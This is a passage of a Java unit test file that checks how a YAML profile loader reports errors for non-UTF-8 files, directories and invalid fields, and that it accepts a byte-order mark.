    Files.write(latin1, "name: caf\u00e9\n".getBytes(StandardCharsets.ISO_8859_1));
    assertThatThrownBy(() -> loader.load(latin1))
        .hasMessage(latin1 + ": error: cannot read profile: not valid UTF-8");
    assertThatThrownBy(() -> loader.load(tmp))
        .hasMessage(tmp + ": error: cannot read profile: is a directory");
  }

  @Test
  void loadNamesTheFileAsGivenAndAcceptsAByteOrderMark() throws Exception {
    Path file = tmp.resolve("bom.yaml");
    Files.writeString(file, "\uFEFFname: bom\njar: a.jar\n");
    assertThat(loader.load(file).name()).isEqualTo("bom");
    Files.writeString(file, "name: bom\njar: a.jar\nuser: no\n");
    assertThatThrownBy(() -> loader.load(file)).hasMessageStartingWith(file + ":3:7: error: ");
  }
}
